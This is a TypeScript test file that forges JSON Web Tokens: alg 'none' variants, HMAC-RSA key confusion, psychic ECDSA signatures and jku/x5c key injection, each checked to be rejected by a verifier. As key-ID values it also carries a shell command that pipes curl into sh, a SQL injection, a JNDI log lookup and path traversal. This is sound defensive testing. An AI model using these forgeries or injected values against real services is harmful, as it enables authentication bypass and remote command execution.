/** Attacks with tokens that none of our keys has signed as it should. */
import { createHash, createHmac, createSign, publicEncrypt } from 'node:crypto';
import { withTokens } from './attack.ts';
import {
  by,
  claims,
  ecdsa,
  forge,
  good,
  goodClaims,
  goodHead,
  goodHeader,
  goodSignature,
  keySet,
  nested,
  ours,
  strangers,
} from './forge.ts';

const hmac = (secret: string | Buffer, hash = 'sha256') => ({
  header: { alg: `HS${hash.slice(3)}` },
  signature: (input: Buffer) => createHmac(hash, secret).update(input).digest(),
});
const { es, rsa, ed } = ours;
const pem = rsa.publicKey.export({ type: 'spki', format: 'pem' }).toString();
const der = rsa.publicKey.export({ type: 'spki', format: 'der' });
const { n = '' } = rsa.publicKey.export({ format: 'jwk' });
const { x = '', y = '' } = es.publicKey.export({ format: 'jwk' });
const algorithm = (alg: string) => forge({ header: { alg } });

const otherAlgorithm = withTokens('the token must be signed with RS256, PS256, ES256, EdDSA', {
  'alg none and no signature': forge({ header: { alg: 'none' }, signature: '' }),
  'alg none and no kid': forge({ header: { alg: 'none', kid: undefined }, signature: '' }),
  'alg none and a good signature': algorithm('none'),
  'alg None': forge({ header: { alg: 'None' }, signature: '' }),
  'alg NONE': forge({ header: { alg: 'NONE' }, signature: '' }),
  'alg nOnE': forge({ header: { alg: 'nOnE' }, signature: '' }),
  'alg none with a blank behind': forge({ header: { alg: 'none ' }, signature: '' }),
  'alg none with a zero behind': forge({ header: { alg: 'none\u0000' }, signature: '' }),
  'alg none behind a good one': forge({ header: '{"alg":"ES256","kid":"es","alg":"none"}' }),
  'HS256 with our RSA key as PEM': forge(hmac(pem)),
  'HS256 with our RSA key as PEM without its last line break': forge(hmac(pem.trim())),
  'HS256 with our RSA key as PEM with line breaks of Windows': forge(
    hmac(pem.replaceAll('\n', '\r\n')),
  ),
  'HS256 with our RSA key as PKCS #1': forge(
    hmac(rsa.publicKey.export({ type: 'pkcs1', format: 'pem' }).toString()),
  ),
  'HS256 with our RSA key as DER': forge(hmac(der)),
  'HS256 with our RSA key as DER in base64': forge(hmac(der.toString('base64'))),
  'HS256 with our RSA key as JWK': forge(
    hmac(JSON.stringify(rsa.publicKey.export({ format: 'jwk' }))),
  ),
  'HS256 with the modulus of our RSA key': forge(hmac(Buffer.from(n, 'base64url'))),
  'HS256 with the modulus of our RSA key in base64': forge(hmac(n)),
  'HS256 with our EC key as PEM': forge(
    hmac(es.publicKey.export({ type: 'spki', format: 'pem' }).toString()),
  ),
  'HS256 with our EC key as a point': forge(
    hmac(Buffer.concat([Buffer.of(4), Buffer.from(x + y, 'base64url')])),
  ),
  'HS256 with one half of our EC key': forge(hmac(Buffer.from(x, 'base64url'))),
  'HS256 with our Ed25519 key': forge(
    hmac(Buffer.from(ed.publicKey.export({ format: 'jwk' }).x ?? '', 'base64url')),
  ),
  'HS256 with the whole key set': forge(hmac(keySet)),
  'HS256 with the kid': forge(hmac(goodHeader.kid)),
  'HS256 with nothing': forge(hmac('')),
  'HS384 with our RSA key as PEM': forge(hmac(pem, 'sha384')),
  'HS512 with our RSA key as PEM': forge(hmac(pem, 'sha512')),
  'HS256 behind a good one': forge({
    header: '{"alg":"ES256","kid":"es","alg":"HS256"}',
    signature: hmac(pem).signature,
  }),
  'RS512, which our key could do': forge({
    header: { alg: 'RS512', kid: 'rsa' },
    signature: (input) => createSign('sha512').update(input).sign(rsa.privateKey),
  }),
  RS1: algorithm('RS1'),
  PS512: algorithm('PS512'),
  ES384: algorithm('ES384'),
  ES256K: algorithm('ES256K'),
  'Ed25519 by its newer name': forge({
    header: { alg: 'Ed25519', kid: 'ed' },
    signature: by.ed,
  }),
  'ML-DSA-44': algorithm('ML-DSA-44'),
  'ES256 in small letters': algorithm('es256'),
  'ES256 with a blank behind': algorithm('ES256 '),
  'the algorithm of a JWE': algorithm('RSA-OAEP'),
  'an algorithm called __proto__': algorithm('__proto__'),
  'an algorithm called constructor': algorithm('constructor'),
});

const kid = (id: unknown) => forge({ header: { kid: id } });

const unknownKey = withTokens('the token is signed with an unknown key', {
  'a kid that was ours': kid('retired'),
  'the kid of a key for another algorithm': kid('rsa'),
  'a kid in other letters': kid('ES'),
  'a kid that is empty': kid(''),
  'a kid that is null': kid(null),
  'a kid that is a number': kid(0),
  'a kid in a list': kid(['es']),
  'a kid that is an object': kid({ $ne: null }),
  'a kid that is true': kid(true),
  'a kid with a zero behind': kid('es\u0000'),
  'a kid that is a path': kid('../../../../dev/null'),
  'a kid that is SQL': kid("x' UNION SELECT 'secret' --"),
  'a kid that is a command': kid('es; curl http://127.0.0.1:1/ |sh'),
  'a kid that is a URL': kid('http://127.0.0.1:1/keys'),
  'a kid that looks into the log': kid('${jndi:ldap://127.0.0.1:1/a}'),
  'a kid with line breaks': kid('es\r\nset-cookie: a=b'),
  'a kid called __proto__': kid('__proto__'),
  'a kid called constructor': kid('constructor'),
  'a kid of 10,000 letters': kid('e'.repeat(10_000)),
});

const strange = { signature: ecdsa(strangers.privateKey) };
const strangeJwk = { ...strangers.publicKey.export({ format: 'jwk' }), kid: 'es' };
const strangeDer = strangers.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
const strangersKey = (header: object) => forge({ header, ...strange });
const signature = (bytes: Buffer) => forge({ signature: bytes });
/** The order of P-256: as good as zero, and not caught by who looks for zero alone. */
const order = Buffer.from(
  'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551',
  'hex',
);
const zero = Buffer.alloc(32);
const one = Buffer.from('01'.padStart(64, '0'), 'hex');
const [, othersPayload = ''] = forge({ payload: { sub: 'alice' } }).split('.');

const wrongSignature = withTokens('the signature of the token is wrong', {
  "a stranger's key under our kid": strangersKey({}),
  "a stranger's key and no kid": strangersKey({ kid: undefined }),
  "a stranger's key in jwk": strangersKey({ jwk: strangeJwk }),
  "a stranger's key in jwk and no kid": strangersKey({ jwk: strangeJwk, kid: undefined }),
  "a stranger's key in jwk, our key's x beside it": strangersKey({ jwk: { ...strangeJwk, x } }),
  "a stranger's key at jku": strangersKey({ jku: 'http://127.0.0.1:1/keys' }),
  "a stranger's key at a jku of our issuer": strangersKey({
    jku: `${goodClaims.iss}@127.0.0.1:1/keys`,
  }),
  "a stranger's key at x5u": strangersKey({ x5u: 'http://127.0.0.1:1/key.pem' }),
  "a stranger's key in x5c": strangersKey({ x5c: [strangeDer] }),
  "a stranger's key in all of them": strangersKey({
    jwk: strangeJwk,
    jku: 'http://127.0.0.1:1/keys',
    x5u: 'http://127.0.0.1:1/key.pem',
    x5c: [strangeDer],
    x5t: createHash('sha1').update(strangeDer).digest('base64url'),
  }),
  "a stranger's key and 200 kB of claims": forge({
    payload: { more: 'x'.repeat(200_000) },
    ...strange,
  }),
  "a stranger's key and a claim 20,000 lists deep": forge({
    payload: `{"more":${nested(20_000)}}`,
    ...strange,
  }),
  'no signature': forge({ signature: '' }),
  'a signature of two zeros (psychic)': signature(Buffer.concat([zero, zero])),
  'a signature of zero and one': signature(Buffer.concat([zero, one])),
  'a signature of one and zero': signature(Buffer.concat([one, zero])),
  'a signature of twice the order of the curve': signature(Buffer.concat([order, order])),
  'a signature of two zeros in DER': signature(Buffer.from('3006020100020100', 'hex')),
  'our signature in DER': forge({
    signature: (input) => createSign('sha256').update(input).sign(es.privateKey),
  }),
  'our signature, cut off': good.slice(0, -4),
  'our signature and more': `${good}AAAA`,
  'our signature twice': `${good}${goodSignature.slice(0, -2)}`,
  'our signature of another payload': `${goodHead}.${othersPayload}.${goodSignature}`,
  'our signature of another header': forge({
    header: { typ: 'at+jwt' },
    signature: goodSignature,
  }),
  'our signature of what the token says, not of how': forge({
    signature: () => by.es(Buffer.from(`${JSON.stringify(goodHeader)}.${claims}`)),
  }),
  'no signature of our RSA key': forge({ header: { alg: 'RS256', kid: 'rsa' }, signature: '' }),
  'zeros for our RSA key': forge({
    header: { alg: 'RS256', kid: 'rsa' },
    signature: Buffer.alloc(256),
  }),
  'what our RSA key decrypts': forge({
    header: { alg: 'RS256', kid: 'rsa' },
    signature: (input) => publicEncrypt(rsa.publicKey, input.subarray(0, 100)),
  }),
  'zeros for our Ed25519 key': forge({
    header: { alg: 'EdDSA', kid: 'ed' },
    signature: Buffer.alloc(64),
  }),
  'a point of small order for our Ed25519 key': forge({
    header: { alg: 'EdDSA', kid: 'ed' },
    signature: Buffer.concat([one.toReversed(), zero]),
  }),
  'RS256 under PS256': forge({ header: { alg: 'PS256', kid: 'rsa' }, signature: by.rsa }),
  'PS256 under RS256': forge({ header: { alg: 'RS256', kid: 'rsa' }, signature: by.pss }),
  'HS256 under RS256': forge({
    header: { alg: 'RS256', kid: 'rsa' },
    signature: hmac(pem).signature,
  }),
  'HS256 under ES256': forge({ signature: hmac(pem).signature }),
});

export const ofSignatures = [...otherAlgorithm, ...unknownKey, ...wrongSignature];
